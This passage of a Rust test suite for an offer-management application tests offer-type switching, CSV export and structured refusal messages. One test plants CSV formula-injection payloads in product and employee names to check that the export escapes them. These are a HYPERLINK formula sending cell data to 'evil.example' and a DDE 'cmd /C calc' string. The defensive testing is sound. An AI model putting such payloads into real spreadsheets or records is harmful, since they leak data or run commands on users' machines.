    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let notebook_lines = |o: &Offer| -> Vec<OfferType> {
        o.lines()
            .filter(|l| l.item_code == "NB-LEN-T14G5")
            .map(|l| l.offer_type)
            .collect()
    };
    assert_eq!(notebook_lines(&o), [OfferType::Purchase]);
    // A product is only purchased: renting it is refused, naming why.
    let err = f
        .store
        .write(|tx| switch_offer_type(tx, o.id, 1, OfferType::Rental))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidRequest);
    assert!(
        err.to_string()
            .contains("it is purchased, not sold as rental"),
        "{err}"
    );
    let unchanged = offer(f.store.conn(), o.id).unwrap();
    assert_eq!(unchanged, o, "a refusal changes nothing");
    // A workplace service with rental and leasing terms: switched to leasing,
    // its booking is planned again as leasing (the other booking as it was).
    let desk = f
        .store
        .write(|tx| {
            let c = NewCustomer::named("Desk GmbH")
                .employee("Anna Schmidt")
                .with_workplace("Anna's desk")
                .create(tx)?;
            let waas = support::booking::rental(
                c.id,
                "SVC-WAAS",
                "OFFICE",
                &[("SUPPORT", "8X5")],
                ContextSelector::Contexts(vec![ContextRef::Workplace(c.workplaces[0])]),
                start(),
            );
            let notebook =
                support::booking::notebook(c.id, for_employee(c.employees[0]), 1, start());
            create_offer(
                tx,
                &OfferDraft {
                    customer_id: c.id,
                    requests: vec![waas, notebook],
                    changes: Vec::new(),
                    offer_date: Some(day(2026, 5, 20)),
                    valid_until: None,
                    notes: String::new(),
                },
            )
        })
        .unwrap();
    let waas_types = |o: &Offer| -> Vec<OfferType> {
        o.lines()
            .filter(|l| l.item_code == "SVC-WAAS")
            .map(|l| l.offer_type)
            .collect()
    };
    assert_eq!(waas_types(&desk), [OfferType::Rental]);
    let leased = f
        .store
        .write(|tx| switch_offer_type(tx, desk.id, 0, OfferType::Leasing))
        .unwrap();
    assert_eq!(waas_types(&leased), [OfferType::Leasing]);
    assert_eq!(
        leased.requests[1], desk.requests[1],
        "the other booking as it was"
    );
    assert_eq!(notebook_lines(&leased), [OfferType::Purchase]);
    // No such booking: bad input, named.
    let err = f
        .store
        .write(|tx| switch_offer_type(tx, o.id, 5, OfferType::Rental))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
}

#[test]
fn the_csv_has_one_row_per_line() {
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let bytes = export_offer(f.store.conn(), o.id, OfferExportFormat::Csv).unwrap();
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "offer");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 6);
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let sum = |name: &str| -> Decimal { rows.iter().map(|r| d(&r[column(name)])).sum() };
    assert_eq!(sum("one_time"), d("2988.00"));
    assert_eq!(sum("monthly"), d("96.58"));
    let notebook = rows
        .iter()
        .find(|r| &r[column("item_code")] == "NB-LEN-T14G5")
        .unwrap();
    assert_eq!(&notebook[column("quantity")], "2");
    assert_eq!(&notebook[column("one_time")], "2498.00");
    assert_eq!(&notebook[column("context")], "Anna Schmidt");
    assert_eq!(&rows[0][column("offer")], "ANG-2026-0001");
}

#[test]
fn a_formula_in_a_name_is_written_to_the_csv_as_text_and_amounts_stay_numbers() {
    use servicefolio::catalog::ItemRecord;
    use servicefolio::catalog::{item_record, save_item, EditHistory, ItemDraft};
    let mut f = fixture();
    // Names a spreadsheet would run as formulas: a product and an employee.
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Notebook\")";
    let mut record = item_record(f.store.conn(), "NB-LEN-T14G5").unwrap();
    let ItemRecord::Product(product) = &mut record else {
        panic!("a product");
    };
    product.name = formula.into();
    save_item(
        &mut f.store,
        &mut EditHistory::default(),
        &ItemDraft {
            original_code: Some("NB-LEN-T14G5".into()),
            record,
        },
    )
    .unwrap();
    let anna = f.employees[0];
    f.store
        .write(|tx| {
            update_employee(
                tx,
                anna,
                &EmployeeRecord {
                    name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
                    ..Default::default()
                },
            )
        })
        .unwrap();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("offer.csv");
    export_offer_to(
        f.store.conn(),
        o.id,
        OfferExportFormat::Csv,
        &path,
        ExportChoices::default(),
    )
    .unwrap();
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let notebook = rows
        .iter()
        .find(|r| &r[column("item_code")] == "NB-LEN-T14G5")
        .unwrap();
    assert_eq!(&notebook[column("description")], format!("'{formula}"));
    assert_eq!(&notebook[column("context")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    // The numeric columns are the numbers, unescaped.
    assert_eq!(&notebook[column("quantity")], "2");
    assert_eq!(&notebook[column("one_time")], "2498.00");
    assert_eq!(&notebook[column("unit_one_time")], "1249");
    for row in &rows {
        for name in [
            "version", "position", "quantity", "one_time", "monthly", "tax_rate",
        ] {
            assert!(
                Decimal::from_str(&row[column(name)]).is_ok(),
                "{name}: {:?}",
                &row[column(name)]
            );
        }
    }
    // Text that starts harmlessly is left as it is.
    let m365 = rows
        .iter()
        .find(|r| &r[column("item_code")] == "SVC-M365")
        .unwrap();
    assert!(!m365[column("description")].starts_with('\''));
}

/// The sentence and values of a refusal, from its details.
fn refusal_wording(err: &servicefolio::Error) -> servicefolio::error::Wording {
    match err.details() {
        Some(ErrorDetails::InUse { why, .. }) => why,
        Some(ErrorDetails::NotFound { what }) => what,
        other => panic!("not a worded refusal: {err} ({other:?})"),
    }
}

#[test]
fn refusals_carry_their_sentence_and_typed_values_for_the_ui() {
    use servicefolio::error::{RefusalSays, Says, Value};
    let text = |t: &str| Value::Text(t.to_owned());
    let mut f = fixture();
    let requests = vec![managed365(&f)];
    let o = create(&mut f, requests);

    // A missing offer: the sentence, and the id as a value (not in the words).
    let err = offer(f.store.conn(), o.id + 100).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::NotFound);
    assert_eq!(err.to_string(), format!("offer {} not found", o.id + 100));
    let wording = refusal_wording(&err);
    assert_eq!(wording.said, Says::Refusal(RefusalSays::OfferNotFound));
    assert_eq!(wording.values["id"], text(&(o.id + 100).to_string()));

    // A sent version is frozen: its status is a typed value, not the word "sent".
    f.store
        .write(|tx| set_offer_status(tx, o.id, OfferStatus::Sent))
        .unwrap();
    let err = f.store.write(|tx| delete_offer(tx, o.id)).unwrap_err();
    assert_eq!(
        err.to_string(),
        "offer ANG-2026-0001 version 1 cannot be deleted: it is sent and frozen; create a new version to change it"
    );
    let wording = refusal_wording(&err);
    assert_eq!(wording.said, Says::Refusal(RefusalSays::FrozenNotDeleted));
    assert_eq!(wording.values["offer"], text("ANG-2026-0001"));
    assert_eq!(wording.values["version"], text("1"));
    assert_eq!(
        wording.values["status"],
        Value::OfferStatus(OfferStatus::Sent)
    );

    // An accepted offer is final: revising it is refused in a sentence of its own.
    f.store
        .write(|tx| set_offer_status(tx, o.id, OfferStatus::Accepted))
        .unwrap();
    let err = f
        .store
        .write(|tx| new_offer_version(tx, o.id, None))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InUse);
    assert_eq!(
        err.to_string(),
        "offer ANG-2026-0001 version 1 cannot be revised: it is accepted; make a new offer instead"
    );
    let wording = refusal_wording(&err);
    assert_eq!(wording.said, Says::Refusal(RefusalSays::AcceptedNotRevised));
    assert_eq!(
        wording.values.keys().collect::<Vec<_>>(),
        ["offer", "version"]
    );
    // Moving an accepted offer on names both statuses as typed values.
    let err = f
        .store
        .write(|tx| set_offer_status(tx, o.id, OfferStatus::Rejected))
        .unwrap_err();
    let wording = refusal_wording(&err);
    assert_eq!(wording.said, Says::Refusal(RefusalSays::OfferCannotBecome));
    assert_eq!(
        wording.values["status"],
        Value::OfferStatus(OfferStatus::Accepted)
    );
    assert_eq!(
        wording.values["to"],
        Value::OfferStatus(OfferStatus::Rejected)
    );
    assert_eq!(err.to_string(), wording.english());
}
